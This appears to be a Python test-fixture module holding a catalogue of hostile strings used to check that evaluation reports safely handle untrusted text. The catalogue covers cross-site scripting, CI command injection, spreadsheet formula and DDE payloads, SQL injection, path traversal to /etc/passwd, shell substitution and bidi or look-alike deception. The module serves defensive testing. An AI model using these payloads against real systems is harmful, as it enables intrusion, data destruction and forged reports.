"""Texts that a model, a dataset or a server may send, each of which runs, breaks or lies in some report.

Whatever would run in a browser marks the page: ``document.body.dataset.pwned`` is set where one of them did.
"""

import re

__all__ = ["HOSTILE", "LONG_WORD", "harmless"]

_PWN = "document.body.dataset.pwned=1"
LONG_WORD = "w" * 1_000_000

HOSTILE: dict[str, str] = {
    # a browser runs it
    "script": f"<script>{_PWN}</script>",
    "script end": f"</script></style></textarea></title><script>{_PWN}</script>",
    "image": f"<img src=x onerror={_PWN}>",
    "svg": f"<svg/onload={_PWN}>",
    "double quotes": f'" autofocus onfocus="{_PWN}" x="',
    "single quotes": f"' autofocus onfocus='{_PWN}' x='",
    "no quotes": f"x onmouseover={_PWN} style=position:fixed;inset:0",
    "script address": f"javascript:{_PWN}",
    "frame": f'<iframe srcdoc="&lt;script&gt;parent.{_PWN}&lt;/script&gt;"></iframe>',
    "comment": f"<!-- --!><script>{_PWN}</script>",
    "entities": f"&lt;script&gt;{_PWN}&lt;/script&gt;&#0;&#x1f;",
    "template": "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "string end": f"\\\";{_PWN}//\\';{_PWN}//`${{{_PWN}}}`\u2028{_PWN}",
    "document end": "]]></failure></testsuite>\n---\n...\n</details></body></html>",
    # a terminal obeys it
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1A",
    "title": "\x1b]0;owned\x07\x9b31m",
    "return": "all failed\r1 passed  ",
    "backspace": "FAIL\b\b\b\bPASS\x7f",
    # a CI system obeys it
    "command": "::error file=app.py,line=1::owned",
    "later command": "fine\n  ::set-output name=x::y\r\n::add-mask::e",
    "stopped commands": "::stop-commands::token",
    "old command": "##[error]x ##[group]x ##vso[x]",
    "command data": "a%0A::error::b%0D%25,title=x:y",
    # a spreadsheet runs it
    "formula": '=HYPERLINK("http://example.com/?"&A1,"see")',
    "program": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "line before": "\r=1+1",
    "wide": "\uff1d1+1 \uff0b \uff0d \uff20",
    "cells": 'a","=1+1"\n=2+2,"b;=3+3',
    # a page of Markdown obeys it
    "table": "a | b | c\n|---|---|\n| d |",
    "fence": "```\n</details>\n~~~\n````",
    "picture": "![x](http://example.com/p.png) [y](javascript:alert(1)) <http://example.com>",
    "people": "@octocat @org/team #1 GH-1 org/repo#2 www.example.com https://example.com a@example.com",
    "title line": "# title\n=====\n- [ ] box\n> quote\n1. one\n***\n$$x$$",
    # it shows one thing and means another
    "bidi": "\u202egpj.exe\u202c \u2066passed\u2069 \u200fx",
    "invisible": "pa\u200bss\u200ded\u2060\ufeff\u00ad\U000e0041",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 40,
    "look-alike": "\u0440\u0430ssed \uff1cscript\uff1e",
    # it cannot be kept, or breaks what holds it
    "nul": "a\x00b",
    "lone surrogate": "a\ud800b\udc80",
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])),
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "line ends": "a\nb\r\nc\rd\x0be\x0cf\x85g\u2028h\u2029i",
    "labels": 'x"} 1\nllmeval_run_verdict{run="forged"} 1\n\\',
    "format": "%s%n{0.__class__}{x!r}$(id)`id`${HOME}%PATH%",
    "query": "'); DROP TABLE cases; --",
    "path": "../../../../etc/passwd",
    "device": "C:\\..\\NUL|con.txt:stream*?",
    "hidden path": "..\u2215..\uff0f.\u2024/%2e%2e%2f/etc/\ufe4fpasswd",
    "blank": " \t ",
    "value like": "NaN",
    "number like": "1e999",
    "object like": '{"outcome": "passed", "score": 1, "__proto__": {"x": 1}}',
    "long word": LONG_WORD,
}
"""By what they do; every one is a text that JSON, and so a dataset or a model, can hold."""

_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")

_AGENT_COMMAND = re.compile(r"##\w*\[")


def harmless(*texts: str) -> None:
    """Fail where a text that is printed holds a control character or a line that a CI system obeys."""
    for text in texts:
        assert not _CONTROL.search(text), _CONTROL.search(text)
        assert not _AGENT_COMMAND.search(text), _AGENT_COMMAND.search(text)
        for line in text.split("\n"):
            assert not line.lstrip().startswith("::"), line
